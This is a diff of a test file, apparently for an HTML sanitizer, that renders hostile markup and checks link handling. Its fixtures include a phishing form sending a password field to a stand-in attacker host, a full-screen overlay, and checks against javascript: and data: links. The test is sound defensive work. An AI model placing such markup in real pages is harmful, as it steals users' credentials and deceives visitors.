@@ -17,6 +17,8 @@ const hostile = [
   '<form action="https://evil.example"><input name="password"><button>go</button></form>',
   '<p style="position:fixed;inset:0">cover</p>',
   '<a href="https://good.example/terms">the terms</a>',
+  '<a href="/promotions">the promotions</a>',
+  '<a href="https://[">broken</a>',
 ].join('')
 
 const promotion = {
@@ -48,7 +50,7 @@ test.each(pages)(
     const opened: string[] = []
     const screen = await renderSite(page, {
       path,
-      platform: { openExternal: (url) => void opened.push(url) },
+      platform: { publicOrigin: 'https://site.example', openExternal: (url) => void opened.push(url) },
     })
     await expect.element(screen.getByText('Plain words')).toBeVisible()
     await expect.element(screen.getByRole('heading', { name: '<b>Title</b>' })).toBeVisible()
@@ -58,7 +60,9 @@ test.each(pages)(
     for (const link of container.querySelectorAll('a')) expect(link.href).not.toMatch(/^(javascript|data):/)
 
     await screen.getByRole('link', { name: 'the terms' }).click()
-    expect(opened).toEqual(['https://good.example/terms'])
+    await screen.getByRole('link', { name: 'the promotions' }).click()
+    await screen.getByRole('link', { name: 'broken' }).click()
+    expect(opened).toEqual(['https://good.example/terms', 'https://site.example/promotions'])
     expect('hit' in window).toBe(false)
   },
 )
